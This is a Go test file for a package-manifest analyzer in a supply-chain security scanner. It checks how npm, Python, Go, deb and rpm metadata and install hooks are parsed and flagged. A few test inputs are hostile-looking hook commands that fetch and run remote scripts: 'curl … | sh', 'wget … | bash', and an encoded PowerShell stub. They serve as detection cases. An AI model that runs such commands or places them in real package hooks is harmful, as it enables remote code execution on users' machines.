package pkgmeta_test

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vouch-sec/vouch"
	"github.com/vouch-sec/vouch/internal/analyze"
	"github.com/vouch-sec/vouch/internal/analyze/pkgmeta"
	"github.com/vouch-sec/vouch/internal/model"
	"github.com/vouch-sec/vouch/internal/testutil/realdata"
)

func readFixture(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

type m = map[string]string

func TestParsePackageJSON(t *testing.T) {
	tests := []struct {
		file    string
		role    string
		want    *model.PackageFacts
		wantErr bool
	}{
		{
			file: "npm-basic.json", role: pkgmeta.ManifestRoot,
			want: &model.PackageFacts{
				Ecosystem: "npm", Name: "@vouch-test/hooky", Version: "1.0.0",
				InstallHooks: m{
					"preinstall":  `node -e "require('./scripts/check')" && curl -fsSL https://example.invalid/x.sh | sh`,
					"postinstall": "NODE_ENV=production node ./scripts/install.js --quiet",
					"prepare":     "npm run build",
				},
				// chalk: optionalDependencies overrides dependencies.
				Dependencies: m{"left-pad": "^1.3.0", "chalk": "^5", "fsevents": "~2.3.2"},
				Extra: m{
					"manifest": "root", "main": "index.js", "bin": "hooky=bin/hooky.js",
					"hook_files:postinstall": "scripts/install.js",
					"hook_inline_code":       "preinstall", "hook_downloads": "preinstall",
					"optional_dependencies": "chalk,fsevents", "peer_dependencies": "react",
					"dev_dependencies": "2", "bundled_dependencies": "left-pad", "gypfile": "false",
					"binary.host": "https://example.invalid/prebuilt/", "binary.module_name": "hooky",
					"os": "darwin,linux", "cpu": "!ia32,x64",
				},
			},
		},
		{
			// The last duplicate wins, as in JSON.parse (npm) and encoding/json.
			file: "npm-dupkeys.json", role: pkgmeta.ManifestRoot,
			want: &model.PackageFacts{
				Ecosystem: "npm", Name: "second", InstallHooks: m{"postinstall": "node payload.js"},
				Extra: m{"manifest": "root", "hook_files:postinstall": "payload.js"},
			},
		},
		{
			// Values of the wrong type are skipped, as npm skips them.
			file: "npm-wrongtypes.json", role: pkgmeta.ManifestDependency,
			want: &model.PackageFacts{
				Ecosystem: "npm", Dependencies: m{"b": "1.0.0"},
				Extra: m{"manifest": "dependency", "bin": "y=bin/y.js", "os": "linux", "optional_dependencies": "b",
					"bundled_dependencies": "true", "gypfile": "yes"},
			},
		},
		{
			file: "npm-array.json", role: pkgmeta.ManifestRoot, wantErr: true,
			want: &model.PackageFacts{Ecosystem: "npm", Extra: m{"manifest": "root",
				"parse_error": "json: cannot unmarshal array into Go value of type map[string]json.RawMessage"}},
		},
		{
			file: "npm-null.json", role: pkgmeta.ManifestNested,
			want: &model.PackageFacts{Ecosystem: "npm", Extra: m{"manifest": "nested", "parse_error": "not a JSON object"}},
		},
		{
			file: "npm-deep.json", role: pkgmeta.ManifestRoot, wantErr: true,
			want: &model.PackageFacts{Ecosystem: "npm", Extra: m{"manifest": "root",
				"parse_error": "JSON nested too deeply (over 64 levels)"}},
		},
		{
			// A 60 KB command is clipped to 1 KiB.
			file: "npm-hugestr.json", role: pkgmeta.ManifestRoot,
			want: &model.PackageFacts{
				Ecosystem: "npm", Name: "huge", Version: "1.0.0",
				InstallHooks: m{"postinstall": `node -e "` + strings.Repeat("A", 1024-9) + "…"},
				Extra:        m{"manifest": "root", "hook_inline_code": "postinstall"},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			got, err := pkgmeta.ParsePackageJSON(readFixture(t, tt.file), tt.role)
			if (err != nil) != tt.wantErr {
				t.Errorf("err = %v, want error %v", err, tt.wantErr)
			}
			if d := cmp.Diff(tt.want, got); d != "" {
				t.Errorf("facts (-want +got):\n%s", d)
			}
		})
	}
}

// TestNPMHooks checks what a hook command is taken to run.
func TestNPMHooks(t *testing.T) {
	tests := []struct {
		cmd  string
		want m // Extra beyond "manifest"
	}{
		{"node install.js", m{"hook_files:postinstall": "install.js"}},
		{"node-gyp rebuild", m{}},
		{"bun run ./scripts/setup.ts && deno run -A tools/x.js", m{"hook_files:postinstall": "scripts/setup.ts,tools/x.js"}},
		{"./install.sh; sh ../escape.sh", m{"hook_files:postinstall": "install.sh"}},
		{"node /usr/lib/abs.js", m{}},
		{"node ${SCRIPT}", m{}},
		{"sh -c 'echo hi'", m{"hook_inline_code": "postinstall"}},
		{"python3 -c 'import os'", m{"hook_inline_code": "postinstall"}},
		{"node --eval \"x\"", m{"hook_inline_code": "postinstall"}},
		{"wget -qO- http://198.51.100.7/p | bash", m{"hook_inline_code": "postinstall", "hook_downloads": "postinstall"}},
		{"powershell -enc SQBFAFgA", m{"hook_inline_code": "postinstall"}},
		{"node scripts\\win.js", m{"hook_files:postinstall": "scripts/win.js"}},
		{"husky install", m{}},
		{"node server.js -p 3000", m{"hook_files:postinstall": "server.js"}},
		{"node --no-warnings --max-old-space-size=4096 -e 'x'", m{"hook_inline_code": "postinstall"}},
		{"perl -we 'print 1'", m{"hook_inline_code": "postinstall"}},
		{"bash -ec 'make'", m{"hook_inline_code": "postinstall"}},
		{"python setup.py -c", m{"hook_files:postinstall": "setup.py"}},
	}
	for _, tt := range tests {
		js := `{"scripts":{"postinstall":` + quoteJSON(tt.cmd) + `}}`
		got, err := pkgmeta.ParsePackageJSON([]byte(js), pkgmeta.ManifestRoot)
		if err != nil {
			t.Fatalf("%q: %v", tt.cmd, err)
		}
		tt.want["manifest"] = "root"
		if d := cmp.Diff(tt.want, got.Extra); d != "" {
			t.Errorf("%q: Extra (-want +got):\n%s", tt.cmd, d)
		}
	}
}

func quoteJSON(s string) string {
	var b bytes.Buffer
	b.WriteByte('"')
	for _, r := range s {
		switch r {
		case '"', '\\':
			b.WriteByte('\\')
		}
		b.WriteRune(r)
	}
	b.WriteByte('"')
	return b.String()
}

func TestParseText(t *testing.T) {
	tests := []struct {
		file  string
		parse func([]byte) *model.PackageFacts
		want  *model.PackageFacts
	}{
		{
			// The docstring and the comment mention cmdclass; neither counts.
			// PostDevelop's base is an alias, so only PostInstall is listed
			// as a subclass; Extension(name=…) is not setup's name.
			"setup-cmdclass.py", pkgmeta.ParseSetupPy,
			&model.PackageFacts{
				Ecosystem: "pypi", Name: "hooky", Version: "1.0",
				InstallHooks: m{"cmdclass:install": "PostInstall", "cmdclass:develop": "PostDevelop"},
				Dependencies: m{"requests": ">=2.31", "typing-extensions": `; python_version < "3.11"`},
				Extra:        m{"command_subclasses": "PostInstall(install)", "setup_requires": "setuptools-scm"},
			},
		},
		{
			"setup-vars.py", pkgmeta.ParseSetupPy,
			&model.PackageFacts{
				Ecosystem: "pypi",
				InstallHooks: m{"cmdclass": "versioneer.get_cmdclass()", "cmdclass:build_py": "custom.BuildPy",
					"cmdclass:egg_info": "EggInfo", "cmdclass:sdist": "Sdist"},
			},
		},
		{
			"setup-plain.py", pkgmeta.ParseSetupPy,
			&model.PackageFacts{Ecosystem: "pypi", Name: "plain", Version: "2.0", Dependencies: m{"six": "", "attrs": ">=23"}},
		},
		{
			"setup.cfg", pkgmeta.ParseSetupCfg,
			&model.PackageFacts{
				Ecosystem: "pypi", Name: "hooky",
				InstallHooks: m{"cmdclass:build_py": "hooky.build.BuildPy"},
				Dependencies: m{"requests": ">=2.31", "click": ""},
				Extra:        m{"setup_requires": "wheel"},
			},
		},
		{
			"pyproject.toml", pkgmeta.ParsePyproject,
			&model.PackageFacts{
				Ecosystem: "pypi", Name: "hooky", Version: "1.0",
				InstallHooks: m{"build-backend": "backend (in-tree: _build)", "cmdclass:install": "hooky.cmds.Install"},
				Dependencies: m{"requests": ">=2.31", "urllib3": "[socks] ; python_version >= '3.8'"},
				Extra:        m{"build_backend": "backend", "build_requires": "setuptools,wheel"},
			},
		},
		{
			"pyproject-poetry.toml", pkgmeta.ParsePyproject,
			&model.PackageFacts{
				Ecosystem: "pypi", Name: "poet", Version: "0.1.0",
				InstallHooks: m{"poetry-build-script": "build.py"},
				Dependencies: m{"requests": "^2.31", "flask": `{ version = "^3.0", optional = true }`},
			},
		},
		{
			// Two constraints for one name are both kept; the body is not read.
			"METADATA", pkgmeta.ParsePkgInfo,
			&model.PackageFacts{
				Ecosystem: "pypi", Name: "hooky", Version: "1.0",
				Dependencies: m{
					"requests": "(>=2.31)", "pytest": "; extra == 'test'",
					"numpy": `>=1.24; python_version < "3.12" || >=1.26; python_version >= "3.12"`,
				},
				Extra: m{"metadata_version": "2.1"},
			},
		},
		{
			"PKG-INFO", pkgmeta.ParsePkgInfo,
			&model.PackageFacts{Ecosystem: "pypi", Name: "hooky", Version: "1.0", Extra: m{"metadata_version": "1.2"}},
		},
		{
			// site.py runs lines starting "import " or "import\t", not indented ones.
			"startup.pth", pkgmeta.ParsePth,
			&model.PackageFacts{
				Ecosystem:    "pypi",
				InstallHooks: m{"pth:import": "import os; exec(\"print('inert fixture')\")\nimport\ttabbed"},
				Extra:        m{"pth_import": "true", "pth_import_lines": "2", "pth_paths": "2"},
			},
		},
		{"plain.pth", pkgmeta.ParsePth, &model.PackageFacts{Ecosystem: "pypi", Extra: m{"pth_paths": "1"}}},
		{
			"gomod.txt", pkgmeta.ParseGoMod,
			&model.PackageFacts{
				Ecosystem: "go", Name: "example.invalid/hooky",
				Dependencies: m{"github.com/google/go-cmp": "v0.6.0", "golang.org/x/sys": "v0.20.0", "example.invalid/quoted": "v1.0.0"},
				Extra:        m{"go": "1.22", "toolchain": "go1.22.4", "replace": "golang.org/x/sys => ../sys-fork"},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			got := tt.parse(readFixture(t, tt.file))
			if d := cmp.Diff(tt.want, got); d != "" {
				t.Errorf("facts (-want +got):\n%s", d)
			}
		})
	}
}

// TestSetupPyShapes covers the other ways setup.py scripts build cmdclass.
func TestSetupPyShapes(t *testing.T) {
	tests := []struct {
		name, src string
		want      m
	}{
		{"kwargs dict", `kw = {"cmdclass": {"install": I}}
setup(**kw)`, m{"cmdclass:install": "I"}},
		{"subscript", `kw = {}
kw['cmdclass'] = dict(build_ext=BuildExt, **base)
setup(**kw)`, m{"cmdclass:build_ext": "BuildExt"}},
		{"splat var", `base = {"egg_info": E}
setup(cmdclass=dict(install=I, **base))`, m{"cmdclass:install": "I", "cmdclass:egg_info": "E"}},
		{"comparison is not assignment", `if cmdclass == {"install": X}: pass`, nil},
		{"string only", `print("setup(cmdclass={'install': X})")`, nil},
		{"raw and prefixed strings", `s = rb'\'' ; t = f"""{x}
cmdclass={'install': Y}"""
setup(cmdclass={'develop': D})`, m{"cmdclass:develop": "D"}},
		{"unterminated string", `setup(cmdclass={'install': I}) ; x = "`, m{"cmdclass:install": "I"}},
		{"call expression", `setup(cmdclass=get_cmds(extra={"x": 1}))`, m{"cmdclass": `get_cmds(extra={"x":1})`}},
	}
	for _, tt := range tests {
		got := pkgmeta.ParseSetupPy([]byte(tt.src))
		if d := cmp.Diff(tt.want, got.InstallHooks); d != "" {
			t.Errorf("%s: hooks (-want +got):\n%s", tt.name, d)
		}
	}
}

// TestHostileShapes feeds inputs shaped to make a naive reader quadratic
// or unbounded, at the 4 MiB manifest cap: each must finish quickly with
// bounded facts.
func TestHostileShapes(t *testing.T) {
	const size = 4 << 20
	fill := func(unit string) []byte { return bytes.Repeat([]byte(unit), size/len(unit)) }
	tests := []struct {
		name  string
		parse func([]byte) *model.PackageFacts
		in    []byte
	}{
		{"nested setup calls", pkgmeta.ParseSetupPy, fill("setup(")},
		{"nested cmdclass dicts", pkgmeta.ParseSetupPy, fill("cmdclass={'install':")},
		{"cmdclass variables", pkgmeta.ParseSetupPy, fill("cmdclass=a\na=b\nb['x']=a\n")},
		{"many strings", pkgmeta.ParseSetupPy, append([]byte("setup(install_requires=["), fill("'a',")...)},
		{"toml array never closed", pkgmeta.ParsePyproject, append([]byte("[project]\ndependencies = ["), fill("\n")...)},
		{"toml arrays", pkgmeta.ParsePyproject, fill("a = [\n\n\n")},
		{"ini continuations", pkgmeta.ParseSetupCfg, append([]byte("[options]\ninstall_requires =\n"), fill(" a\n")...)},
		{"ini keys", pkgmeta.ParseSetupCfg, fill("k=\n x\n")},
		{"pth imports", pkgmeta.ParsePth, fill("import x\n")},
		{"metadata requires", pkgmeta.ParsePkgInfo, fill("Requires-Dist: a\n")},
		{"go.mod requires", pkgmeta.ParseGoMod, fill("require a v1\n")},
		{"json", func(b []byte) *model.PackageFacts { pf, _ := pkgmeta.ParsePackageJSON(b, "root"); return pf },
			append(append([]byte(`{"dependencies":{`), fill(`"a":"1",`)...), []byte(`"b":"2"}}`)...)},
	}
	for _, tt := range tests {
		start := time.Now()
		pf := tt.parse(tt.in)
		t.Logf("%s: %v", tt.name, time.Since(start))
		if el := time.Since(start); el > 10*time.Second {
			t.Errorf("%s: took %v", tt.name, el)
		}
		for k, v := range pf.Extra {
			if len(v) > 8192+len(",…") {
				t.Errorf("%s: Extra[%q] is %d bytes", tt.name, k, len(v))
			}
		}
		if len(pf.Dependencies) > 4096 || len(pf.InstallHooks) > 4096 {
			t.Errorf("%s: %d dependencies, %d hooks", tt.name, len(pf.Dependencies), len(pf.InstallHooks))
		}
	}
}

// TestAnalyze checks the choice of file by kind and path and the bounds.
func TestAnalyze(t *testing.T) {
	pkg := []byte(`{"name":"x","version":"1.0.0"}`)
	npm := func(role string) *model.PackageFacts {
		return &model.PackageFacts{Ecosystem: "npm", Name: "x", Version: "1.0.0", Extra: m{"manifest": role}}
	}
	tests := []struct {
		path, kind string
		data       []byte
		meta       model.Meta
		want       *model.PackageFacts
		wantErr    bool
	}{
		{path: "x.tgz!/package/package.json", kind: "text/json", data: pkg, want: npm("root")},
		{path: "package.json", kind: "text/json", data: pkg, want: npm("root")},
		{path: "x.tgz!/package/node_modules/y/package.json", kind: "text/json", data: pkg, want: npm("dependency")},
		{path: "x.tgz!/package/test/fixtures/package.json", kind: "text/json", data: pkg, want: npm("nested")},
		{path: "x.zip!/a.zip!/package/package.json", kind: "text/json", data: pkg, want: npm("root")},
		{path: "x.tgz!/package/other.json", kind: "text/json", data: pkg},
		{path: "x.tgz!/package/package.json", kind: "text/json", data: bytes.Repeat([]byte(" "), 4<<20+1), wantErr: true},
		{path: "w.whl!/METADATA", kind: "text", data: []byte("Name: x\n")},
		{path: "w.whl!/x-1.dist-info/METADATA", kind: "text", data: []byte("Name: x\n"),
			want: &model.PackageFacts{Ecosystem: "pypi", Name: "x"}},
		{path: "s.tgz!/x/setup.py", kind: "script/python", data: []byte("setup(name='x')"),
			want: &model.PackageFacts{Ecosystem: "pypi", Name: "x"}},
		{path: "s.tgz!/x/run.py", kind: "script/python", data: []byte("setup(name='x')")},
		{path: "w.whl!/x.pth", kind: "text", data: []byte("import x\n")},
		{path: "x.deb", kind: "deb", meta: model.Meta{"deb.package": "x", "deb.version": "1", "deb.maintainer_scripts": ""},
			want: &model.PackageFacts{Ecosystem: "deb", Name: "x", Version: "1"}},
		{path: "x.deb", kind: "deb", meta: model.Meta{"deb.package": "x"},
			want: &model.PackageFacts{Ecosystem: "deb", Name: "x", Extra: m{"maintainer_scripts": "unknown"}}},
		{path: "x.deb", kind: "deb", meta: model.Meta{}},
		{path: "x.rpm", kind: "rpm", meta: model.Meta{"rpm.name": "x", "rpm.version": "1", "rpm.scriptlets": "postin,…",
			"rpm.requires": "a >= 1, b, …"},
			want: &model.PackageFacts{Ecosystem: "rpm", Name: "x", Version: "1",
				InstallHooks: m{"postin": "present"}, Dependencies: m{"a": ">= 1", "b": ""}}},
	}
	a := pkgmeta.New()
	for _, tt := range tests {
		if !a.Match(tt.kind) {
			if tt.want != nil {
				t.Errorf("%s: Match(%q) = false", tt.path, tt.kind)
			}
			continue
		}
		in := &analyze.Input{Path: tt.path, Kind: tt.kind, R: bytes.NewReader(tt.data), Size: int64(len(tt.data)), Meta: tt.meta}
		if len(tt.data) <= 16 {
			in.Head = tt.data
		}
		f := &model.File{Path: tt.path, Facts: &model.Facts{}}
		err := a.Analyze(context.Background(), in, f)
		if (err != nil) != tt.wantErr {
			t.Errorf("%s: err = %v, want error %v", tt.path, err, tt.wantErr)
		}
		if d := cmp.Diff(tt.want, f.Facts.Package); d != "" {
			t.Errorf("%s: facts (-want +got):\n%s", tt.path, d)
		}
	}
	for _, k := range []string{"pe", "elf", "script/js", "zip", "npm"} {
		if a.Match(k) {
			t.Errorf("Match(%q) = true", k)
		}
	}
}

// inspect runs vouch on a file and returns the package facts by path.
func inspect(t *testing.T, target string) (map[string]*model.PackageFacts, *model.Report) {
	t.Helper()
	rep, err := vouch.Inspect(context.Background(), target, vouch.Options{})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]*model.PackageFacts{}
	for _, f := range rep.Files {
		if f.Facts != nil && f.Facts.Package != nil {
			got[f.Path] = f.Facts.Package
		}
	}
	return got, rep
}

// TestContainers inspects the generated packages end to end: the facts
// land on the right files, with the right manifest roles.
func TestContainers(t *testing.T) {
	tests := []struct {
		file string
		want map[string]*model.PackageFacts
	}{
		{"hooky-1.0.0.tgz", map[string]*model.PackageFacts{
			"hooky-1.0.0.tgz!/package/package.json": mustParse(t, "npm-basic.json"),
			"hooky-1.0.0.tgz!/package/node_modules/left-pad/package.json": {
				Ecosystem: "npm", Name: "left-pad", Version: "1.3.0", InstallHooks: m{"install": "node build.js"},
				Extra: m{"manifest": "dependency", "hook_files:install": "build.js"},
			},
			"hooky-1.0.0.tgz!/package/test/fixtures/package.json": {
				Ecosystem: "npm", Extra: m{"manifest": "nested", "parse_error": "unexpected end of JSON input"},
			},
		}},
		{"hooky-1.0.tar.gz", map[string]*model.PackageFacts{
			"hooky-1.0.tar.gz!/hooky-1.0/PKG-INFO":       pkgmeta.ParsePkgInfo(readFixture(t, "PKG-INFO")),
			"hooky-1.0.tar.gz!/hooky-1.0/setup.py":       pkgmeta.ParseSetupPy(readFixture(t, "setup-cmdclass.py")),
			"hooky-1.0.tar.gz!/hooky-1.0/setup.cfg":      pkgmeta.ParseSetupCfg(readFixture(t, "setup.cfg")),
			"hooky-1.0.tar.gz!/hooky-1.0/pyproject.toml": pkgmeta.ParsePyproject(readFixture(t, "pyproject.toml")),
		}},
		{"hooky-1.0-py3-none-any.whl", map[string]*model.PackageFacts{
			"hooky-1.0-py3-none-any.whl!/hooky-1.0.dist-info/METADATA": pkgmeta.ParsePkgInfo(readFixture(t, "METADATA")),
			"hooky-1.0-py3-none-any.whl!/hooky.pth":                    pkgmeta.ParsePth(readFixture(t, "startup.pth")),
		}},
		{"hooky_1.0-1_all.deb", map[string]*model.PackageFacts{
			// Depends is folded over two lines; alternatives are listed each.
			"hooky_1.0-1_all.deb": {
				Ecosystem: "deb", Name: "hooky", Version: "1.0-1",
				InstallHooks: m{"postinst": "present", "prerm": "present"},
				Dependencies: m{"dpkg": ">= 1.17.5", "libc6": ">= 2.34", "bash": "", "dash": "", "python3": "<< 3.13"},
				Extra:        m{"architecture": "all", "pre_depends": "dpkg"},
			},
		}},
		{"hooky-1.0-1.noarch.rpm", map[string]*model.PackageFacts{
			"hooky-1.0-1.noarch.rpm": {
				Ecosystem: "rpm", Name: "hooky", Version: "1.0-1",
				InstallHooks: m{"postin": "present", "preun": "present"},
				Dependencies: m{"/bin/sh": "", "bash": ">= 4.0"},
				Extra:        m{"architecture": "noarch"},
			},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			got, rep := inspect(t, filepath.Join("testdata", tt.file))
			if d := cmp.Diff(tt.want, got); d != "" {
				t.Errorf("package facts (-want +got):\n%s", d)
			}
			for _, e := range rep.Errors {
				t.Errorf("error: %s: %s", e.Path, e.Error)
			}
		})
	}
}

func mustParse(t *testing.T, name string) *model.PackageFacts {
	pf, err := pkgmeta.ParsePackageJSON(readFixture(t, name), pkgmeta.ManifestRoot)
	if err != nil {
		t.Fatal(err)
	}
	return pf
}

// TestRealPackages checks the facts of real releases.
func TestRealPackages(t *testing.T) {
	esbuildDeps := m{}
	for _, p := range []string{"aix-ppc64", "android-arm", "android-arm64", "android-x64", "darwin-arm64", "darwin-x64",
		"freebsd-arm64", "freebsd-x64", "linux-arm", "linux-arm64", "linux-ia32", "linux-loong64", "linux-mips64el",
		"linux-ppc64", "linux-riscv64", "linux-s390x", "linux-x64", "netbsd-arm64", "netbsd-x64", "openbsd-arm64",
		"openbsd-x64", "openharmony-arm64", "sunos-x64", "win32-arm64", "win32-ia32", "win32-x64"} {
		esbuildDeps["@esbuild/"+p] = "0.28.2"
	}
	optional := strings.Join(sortedKeys(esbuildDeps), ",")
	tests := []struct {
		file string
		want map[string]*model.PackageFacts
	}{
		{"esbuild-0.28.2.tgz", map[string]*model.PackageFacts{
			"esbuild-0.28.2.tgz!/package/package.json": {
				Ecosystem: "npm", Name: "esbuild", Version: "0.28.2",
				InstallHooks: m{"postinstall": "node install.js"},
				Dependencies: esbuildDeps,
				Extra: m{"manifest": "root", "main": "lib/main.js", "bin": "esbuild=bin/esbuild",
					"hook_files:postinstall": "install.js", "optional_dependencies": optional},
			},
		}},
		{"esbuild-linux-x64-0.28.2.tgz", map[string]*model.PackageFacts{
			"esbuild-linux-x64-0.28.2.tgz!/package/package.json": {
				Ecosystem: "npm", Name: "@esbuild/linux-x64", Version: "0.28.2",
				Extra: m{"manifest": "root", "os": "linux", "cpu": "x64"},
			},
		}},
		{"liblzma5_5.4.1-1+deb12u1_amd64.deb", map[string]*model.PackageFacts{
			"liblzma5_5.4.1-1+deb12u1_amd64.deb": {
				Ecosystem: "deb", Name: "liblzma5", Version: "5.4.1-1+deb12u1",
				InstallHooks: m{"triggers": "present"}, Dependencies: m{"libc6": ">= 2.34"},
				Extra: m{"architecture": "amd64"},
			},
		}},
		{"libssl3_3.0.22-1~deb12u2_amd64.deb", map[string]*model.PackageFacts{
			"libssl3_3.0.22-1~deb12u2_amd64.deb": {
				Ecosystem: "deb", Name: "libssl3", Version: "3.0.22-1~deb12u2",
				InstallHooks: m{"triggers": "present"}, Dependencies: m{"libc6": ">= 2.34"},
				Extra: m{"architecture": "amd64"},
			},
		}},
		{"libc6_2.36-9+deb12u14_amd64.deb", map[string]*model.PackageFacts{
			"libc6_2.36-9+deb12u14_amd64.deb": {
				Ecosystem: "deb", Name: "libc6", Version: "2.36-9+deb12u14",
				InstallHooks: m{"preinst": "present", "postinst": "present", "postrm": "present", "triggers": "present"},
				Dependencies: m{"libgcc-s1": ""},
				Extra:        m{"architecture": "amd64"},
			},
		}},
		{"shim-signed_1.51~1+deb12u1+16.1-2~deb12u1_amd64.deb", map[string]*model.PackageFacts{
			// Pre-Depends: debconf and Depends: debconf (>= 0.5) | debconf-2.0:
			// both must hold, so the constraint is kept; alternatives are
			// listed each.
			"shim-signed_1.51~1+deb12u1+16.1-2~deb12u1_amd64.deb": {
				Ecosystem: "deb", Name: "shim-signed", Version: "1.51~1+deb12u1+16.1-2~deb12u1",
				InstallHooks: m{"preinst": "present", "postinst": "present", "prerm": "present", "postrm": "present", "triggers": "present"},
				Dependencies: m{"debconf": ">= 0.5", "debconf-2.0": "", "grub-efi-amd64-bin": "", "grub2-common": ">= 2.06-13+deb12u1",
					"mokutil": "", "shim-helpers-amd64-signed": ">= 1+15.8+1~deb12u1", "shim-signed-common": ">= 1.51~1+deb12u1"},
				Extra: m{"architecture": "amd64", "pre_depends": "debconf"},
			},
		}},
		{"python3-setuptools_66.1.1-1+deb12u2_all.deb", map[string]*model.PackageFacts{
			"python3-setuptools_66.1.1-1+deb12u2_all.deb": {
				Ecosystem: "deb", Name: "python3-setuptools", Version: "66.1.1-1+deb12u2",
				InstallHooks: m{"postinst": "present", "prerm": "present"},
				Dependencies: m{"python3": "", "python3-distutils": "", "python3-pkg-resources": "= 66.1.1-1+deb12u2"},
				Extra:        m{"architecture": "all"},
			},
			// setuptools' real startup hook.
			"python3-setuptools_66.1.1-1+deb12u2_all.deb!/data.tar.xz!/usr/lib/python3/dist-packages/distutils-precedence.pth": {
				Ecosystem: "pypi",
				InstallHooks: m{"pth:import": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; " +
					"enabled and __import__('_distutils_hack').add_shim();"},
				Extra: m{"pth_import": "true", "pth_import_lines": "1"},
			},
			"python3-setuptools_66.1.1-1+deb12u2_all.deb!/data.tar.xz!/usr/lib/python3/dist-packages/setuptools-66.1.1.egg-info/PKG-INFO": {
				Ecosystem: "pypi", Name: "setuptools", Version: "66.1.1", Extra: m{"metadata_version": "2.1"},
			},
		}},
		{"curl_7.88.1-10+deb12u15_amd64.deb", map[string]*model.PackageFacts{
			"curl_7.88.1-10+deb12u15_amd64.deb": {
				Ecosystem: "deb", Name: "curl", Version: "7.88.1-10+deb12u15",
				Dependencies: m{"libc6": ">= 2.34", "libcurl4": "= 7.88.1-10+deb12u15", "zlib1g": ">= 1:1.1.4"},
				Extra:        m{"architecture": "amd64"},
			},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			got, rep := inspect(t, realdata.Path(t, tt.file))
			if d := cmp.Diff(tt.want, got); d != "" {
				t.Errorf("package facts (-want +got):\n%s", d)
			}
			for _, e := range rep.Errors {
				if strings.Contains(e.Error, pkgmeta.Name) {
					t.Errorf("error: %s: %s", e.Path, e.Error)
				}
			}
		})
	}
}

func sortedKeys(mm m) []string {
	var ks []string
	for k := range mm {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
